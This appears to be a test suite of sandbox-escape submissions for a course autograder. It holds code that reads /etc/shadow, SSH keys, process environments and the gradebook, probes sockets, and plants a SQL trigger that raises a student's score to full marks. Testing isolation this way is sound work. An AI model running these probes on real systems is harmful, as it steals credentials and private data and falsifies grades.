# Answers that look for secrets and for somebody to tell them. What one finds, it says.

# %% reads files
import glob, os


def attack(x):
    found = []
    places = [
        HOME,
        COURSE,
        "/root",
        "/home",
        "/etc",
        "/var",
        "/tmp",
        "/dev/shm",
        "/proc",
        os.getcwd(),
    ]
    for place in places:
        for folder, _, names in os.walk(place):
            for name in names[:200]:
                if folder.count("/") < 7 and not folder.startswith("/proc/self/task"):
                    try:
                        with open(
                            os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK), "rb"
                        ) as file:
                            data = file.read(100_000)
                    except (OSError, ValueError):
                        continue
                    if b"canary" in data:
                        found.append(data[data.index(b"canary") :][:30])
    raise RuntimeError(repr(found))


# %% reads the course by its name
import glob


def attack(x):
    found = []
    for path in glob.glob(f"{COURSE}/**/*", recursive=True) + [
        f"{HOME}/.ssh/id_rsa",
        f"{COURSE}/roster.csv",
        f"{COURSE}/gradebook.db",
        f"{COURSE}/solutions/guarded/guarded.py",
    ]:
        try:
            found.append(open(path, "rb").read().decode("latin1"))
        except OSError:
            pass
    raise RuntimeError(
        str([text[text.find("canary") :][:30] for text in found if "canary" in text])
    )


# %% reads through the processes' own folders
import glob, os


def attack(x):
    found = []
    for path in glob.glob("/proc/[0-9]*"):
        for name in (
            "environ",
            "cmdline",
            "maps",
            "root/etc/shadow",
            f"root{COURSE}/roster.csv",
            f"root{HOME}/.ssh/id_rsa",
        ):
            try:
                found.append(open(f"{path}/{name}", "rb").read())
            except OSError:
                pass
        for number in range(64):
            try:
                found.append(
                    os.read(os.open(f"{path}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK), 10_000)
                )
            except OSError:
                pass
    text = b"".join(found)
    raise RuntimeError(repr(text[text.find(b"canary") :][:30] if b"canary" in text else ""))


# %% reads its environment and its parents'
import os


def attack(x):
    told = str(dict(os.environ))
    for number in {os.getppid(), 1, os.getpid()}:
        try:
            told += open(f"/proc/{number}/environ").read()
        except OSError:
            pass
    raise RuntimeError(
        " ".join(word for word in told.split() if "canary" in word or "SECRET" in word)
    )


# %% reads what its descriptors lead to
import os, stat


def attack(x):
    found = []
    for number in range(256):
        try:
            kind = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(kind) or stat.S_ISREG(kind):
            found.append(number)
        if stat.S_ISDIR(kind):
            for up in ("..", "../..", "../../.."):
                try:
                    found += os.listdir(os.open(up, os.O_RDONLY, dir_fd=number))
                except OSError:
                    pass
    raise RuntimeError(f"canary {found}" if found else "nothing")


# %% reads the tests in the stack of its callers
import re, sys


def attack(x):
    frame, told = sys._getframe(), ""
    while frame:
        told += str(frame.f_globals) + str(frame.f_locals) + str(frame.f_code.co_consts)
        frame = frame.f_back
    raise RuntimeError(str(re.findall("canary_[0-9a-f]{12}", told)))


# %% speaks to the network
import socket


def attack(x):
    for address in [*ADDRESSES[:2], ("127.0.0.1", ADDRESSES[0][1]), ("::1", ADDRESSES[0][1])]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                sock = socket.socket(socket.AF_INET6 if ":" in address[0] else socket.AF_INET, kind)
                sock.settimeout(0.2)
                sock.connect(tuple(address[:2]))
                sock.send(b"canary")
            except OSError:
                pass
    return x


# %% speaks to sockets of this machine
import socket


def attack(x):
    for address in ADDRESSES[2:]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                sock = socket.socket(socket.AF_UNIX, kind)
                sock.settimeout(0.2)
                sock.connect(address)
                sock.send(b"canary")
            except OSError:
                pass
    return x


# %% speaks to the kernel's sockets
import socket


def attack(x):
    made = []
    for family in range(1, 46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                made.append(socket.socket(family, kind).family)
            except OSError:
                pass
    raise RuntimeError(f"canary {made}" if set(made) - {socket.AF_UNIX} else "none")


# %% asks for names
import socket


def attack(x):
    socket.setdefaulttimeout(0.2)
    socket.getaddrinfo("localhost", ADDRESSES[0][1])
    socket.create_connection(("localhost", ADDRESSES[0][1]))


# %% listens itself
import os, socket


def attack(x):
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(f"/tmp/{MARK}")
    sock.listen()
    os.chmod(f"/tmp/{MARK}", 0o777)


# %% finds a start-up file of a neighbour
import glob, os


def attack(x):
    found = [
        name
        for place in ("/tmp", os.getcwd(), os.path.expanduser("~"))
        for name in os.listdir(place)
    ]
    raise RuntimeError(
        f"canary {found}" if any("custom" in name or "mark" in name for name in found) else "none"
    )


# %% links to what it may not read
import os


def attack(x):
    found = ""
    for name in ("roster.csv", "gradebook.db", "solutions/guarded/guarded.py"):
        for make in (os.symlink, os.link):
            try:
                make(f"{COURSE}/{name}", f"/tmp/{MARK}{make.__name__}")
                found += open(f"/tmp/{MARK}{make.__name__}").read()
            except (OSError, ValueError):
                pass
    raise RuntimeError(found[found.find("canary") :][:30] if "canary" in found else "none")


# %% hands in the reference stock="40"
import glob
import json

for path in glob.glob(f"{COURSE}/s*/guarded/guarded.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["id"] == "attack":
            exec("".join(cell["source"]))

# %% writes the gradebook stock="40"
import sqlite3

book = sqlite3.connect(f"{COURSE}/gradebook.db", timeout=60)
book.execute("""
create trigger more after update of auto_score on grade
when new.notebook_id in (
    select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id
    where a.student_id = 'writes-the-gradebook')
begin
    update grade set auto_score = (select max_score from grade_cells where id = new.cell_id)
    where id = new.id;
end""")
